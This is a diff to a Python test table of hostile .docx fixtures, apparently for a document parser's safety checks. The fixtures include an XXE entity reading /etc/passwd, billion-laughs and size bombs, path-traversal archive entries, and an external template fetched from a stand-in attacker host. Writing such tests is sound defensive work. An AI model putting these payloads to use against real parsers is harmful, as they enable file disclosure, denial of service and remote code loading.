@@ -342,7 +342,7 @@ CASES = [
     Case("D61", "kun-tabel.docx", content(word(change=table)), holds=("Frist\tDen 1. maj 2027",)), Case("D62", "hoved-og-fod.docx", content(word(change=margins))), Case("D63", "tekstboks.docx", content(word(change=box))),
     Case("D64", "bombe.docx", content(parts(body(paragraphs(b"a" * 150_000_000)))), UNSAFE), Case("D65", "noder.docx", content(parts(body(paragraphs(b"a") * 1_500_000))), UNSAFE),
     Case("D66", "2000-filer.docx", content(parts(lambda m: m.update({f"word/media/{n}.bin": b"x" for n in range(2000)}))), UNSAFE),
-    Case("D67", "xxe.docx", content(parts(body(paragraphs(b"&x;"), b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))), UNSAFE), Case("D68", "latter.docx", content(laughs()), UNSAFE),
+    Case("D67", "xxe.docx", content(parts(body(paragraphs(b"&x;"), b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:udenfor.xml">]>'))), UNSAFE), Case("D68", "latter.docx", content(laughs()), UNSAFE),
     Case("D68", "kvadrat.docx", content(parts(body(paragraphs(b"&a;" * 50_000), b'<!DOCTYPE w:document [<!ENTITY a "' + b"a" * 50_000 + b'">]>'))), UNSAFE),
     Case("D69", "dyb.docx", content(parts(body(b"<w:p>" * 30_000 + b"</w:p>" * 30_000))), (DAMAGED, UNSAFE, "empty")),
     Case("D70", "sti.docx", content(parts(lambda m: m.update({"../../../tmp/udenfor.xml": b"x", "word/../../x.xml": b"x"})))), Case("D70", "skabelon.docx", content(parts(lambda m: m.update({"word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://angriber.example/x.dotm" TargetMode="External"/></Relationships>'})))),
